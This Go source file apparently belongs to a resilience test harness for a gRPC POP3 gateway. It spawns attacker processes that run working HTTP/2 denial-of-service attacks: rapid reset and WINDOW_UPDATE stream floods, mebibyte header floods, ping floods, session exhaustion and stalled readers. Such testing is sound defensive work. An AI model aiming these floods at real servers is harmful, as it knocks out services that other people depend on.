package main

import (
	"bytes"
	"context"
	"crypto/tls"
	"encoding/binary"
	"fmt"
	"io"
	"os"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
	"google.golang.org/grpc"
	"google.golang.org/grpc/credentials"
	"google.golang.org/protobuf/proto"

	pb "github.com/popgate/popgate/gen/go/popgate/v1"
)

// attacker is a caller that means harm, in a process of its own.
type attacker struct {
	address string // of the gateway
	tls     *tls.Config
	request *pb.OpenSessionRequest
	ready   func() // says that the attack is under way
}

// attacks are the ways of an attacker. They go on until the process ends.
var attacks = map[string]func(*attacker) error{
	"rapid reset": func(a *attacker) error {
		return a.floods(func(c *rawConn, stream uint32) error { return c.WriteRSTStream(stream, http2.ErrCodeCancel) })
	},
	"made you reset": func(a *attacker) error {
		return a.floods(func(c *rawConn, stream uint32) error {
			return c.WriteRawFrame(http2.FrameWindowUpdate, 0, stream, make([]byte, 4))
		})
	},
	"headers":         (*attacker).headers,
	"pings":           (*attacker).pings,
	"1,000 sessions":  (*attacker).grabs,
	"stalled readers": (*attacker).stalls,
}

// attackerMain is the process of an attacker: the attack, the gateway's address, a file with the request of OpenSession, and keys.
func attackerMain() {
	if err := attack(os.Args[1], os.Args[2], os.Args[3], os.Args[4]); err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
}

func attack(name, address, requestFile, keys string) error {
	go func() {
		io.Copy(io.Discard, os.Stdin) // up to the end of the process that has started this one
		os.Exit(0)
	}()
	config, err := clientTLS(keys, "attacker")
	if err != nil {
		return err
	}
	text, err := os.ReadFile(requestFile)
	if err != nil {
		return err
	}
	a := &attacker{address: address, tls: config, request: &pb.OpenSessionRequest{}}
	a.ready = sync.OnceFunc(func() { fmt.Fprintln(os.Stderr, "under way") })
	if err := proto.Unmarshal(text, a.request); err != nil {
		return err
	}
	return attacks[name](a)
}

// clientTLS is the TLS configuration of a caller that shows the certificate of a name.
func clientTLS(keys, name string) (*tls.Config, error) {
	pool, err := certPool(filepath.Join(keys, "cert.pem"))
	if err != nil {
		return nil, err
	}
	pair, err := tls.LoadX509KeyPair(filepath.Join(keys, name+"-cert.pem"), filepath.Join(keys, name+"-key.pem"))
	return &tls.Config{RootCAs: pool, Certificates: []tls.Certificate{pair}, MinVersion: tls.VersionTLS12}, err
}

// rawConn is a connection on which an attacker speaks HTTP/2 by hand.
type rawConn struct {
	*tls.Conn
	*http2.Framer
}

// dial connects, and throws away what the gateway says.
func (a *attacker) dial() (*rawConn, error) {
	config := a.tls.Clone()
	config.NextProtos = []string{"h2"}
	conn, err := tls.Dial("tcp", a.address, config)
	if err != nil {
		return nil, err
	}
	c := &rawConn{conn, http2.NewFramer(conn, nil)}
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	go io.Copy(io.Discard, conn) // the connection's end ends it
	return c, c.WriteSettings()
}

// again does something on one connection after the other, each until the gateway hangs up.
func (a *attacker) again(f func(*rawConn) error) error {
	for {
		c, err := a.dial()
		if err != nil {
			return err
		}
		for err == nil {
			a.ready()
			err = f(c)
		}
		c.Close()
	}
}

// fields are the header fields of an OpenSession, encoded.
func fields(more ...string) []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	all := append([]string{
		":method", "POST", ":scheme", "https", ":authority", "gateway.example", ":path", pb.Pop3Service_OpenSession_FullMethodName,
		"content-type", "application/grpc", "te", "trailers",
	}, more...)
	for i := 0; i < len(all); i += 2 {
		_ = encoder.WriteField(hpack.HeaderField{Name: all[i], Value: all[i+1], Sensitive: true}) // which has no table
	}
	return block.Bytes()
}

// floods opens streams and has each reset at once.
func (a *attacker) floods(reset func(*rawConn, uint32) error) error {
	message, err := proto.Marshal(a.request)
	if err != nil {
		return err
	}
	body := append(binary.BigEndian.AppendUint32([]byte{0}, uint32(len(message))), message...)
	head := fields()
	stream, of := uint32(1), (*rawConn)(nil)
	return a.again(func(c *rawConn) error {
		if c != of {
			stream, of = 1, c
		}
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: head, EndHeaders: true})
		if err == nil {
			err = c.WriteData(stream, true, body)
		}
		if err == nil {
			err = reset(c, stream)
		}
		stream += 2
		return err
	})
}

// headers sends a request with a MiB of header fields.
func (a *attacker) headers() error {
	block := fields("x-large", strings.Repeat("~", 1<<20))
	stream, of := uint32(1), (*rawConn)(nil)
	return a.again(func(c *rawConn) error {
		if c != of {
			stream, of = 1, c
		}
		err := c.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: block[:16<<10]})
		for at := 16 << 10; at < len(block) && err == nil; at += 16 << 10 {
			end := min(at+16<<10, len(block))
			err = c.WriteContinuation(stream, end == len(block), block[at:end])
		}
		stream += 2
		return err
	})
}

func (a *attacker) pings() error {
	return a.again(func(c *rawConn) error { return c.WritePing(false, [8]byte{}) })
}

// client is an attacker that keeps to the protocol.
func (a *attacker) client() (pb.Pop3ServiceClient, error) {
	conn, err := grpc.NewClient(a.address, grpc.WithTransportCredentials(credentials.NewTLS(a.tls)))
	return pb.NewPop3ServiceClient(conn), err
}

// grabs opens as many sessions as it gets, and goes on asking for more.
func (a *attacker) grabs() error {
	client, err := a.client()
	if err != nil {
		return err
	}
	for range 16 {
		go func() {
			for {
				if _, err := client.OpenSession(context.Background(), a.request); err != nil {
					a.ready() // refused: it has all it gets
				}
			}
		}()
	}
	select {}
}

// stalls begins 100 messages and reads on in none.
func (a *attacker) stalls() error {
	client, err := a.client()
	if err != nil {
		return err
	}
	ctx := context.Background()
	for i := range stalledReaders {
		opened, err := client.OpenSession(ctx, a.request)
		if err != nil {
			return err
		}
		id := opened.GetSessionId()
		if _, err := client.User(ctx, &pb.UserRequest{SessionId: id, Username: fmt.Sprint("user", i)}); err != nil {
			return err
		}
		if _, err := client.Pass(ctx, &pb.PassRequest{SessionId: id, Password: password}); err != nil {
			return err
		}
		if _, err := client.Retr(ctx, &pb.RetrRequest{SessionId: id, MessageNumber: 1}); err != nil {
			return err
		}
	}
	a.ready()
	select {}
}

const stalledReaders = 100

// burnerMain is a process that burns so many processors, and talks to nobody.
func burnerMain() {
	share, err := strconv.ParseFloat(os.Args[1], 64)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	const threads, period = 2, 10 * time.Millisecond
	busy := min(period, time.Duration(share/threads*float64(period)))
	for range threads {
		go func() {
			for {
				begin := time.Now()
				for time.Since(begin) < busy {
				}
				time.Sleep(period - busy)
			}
		}()
	}
	io.Copy(io.Discard, os.Stdin)
}
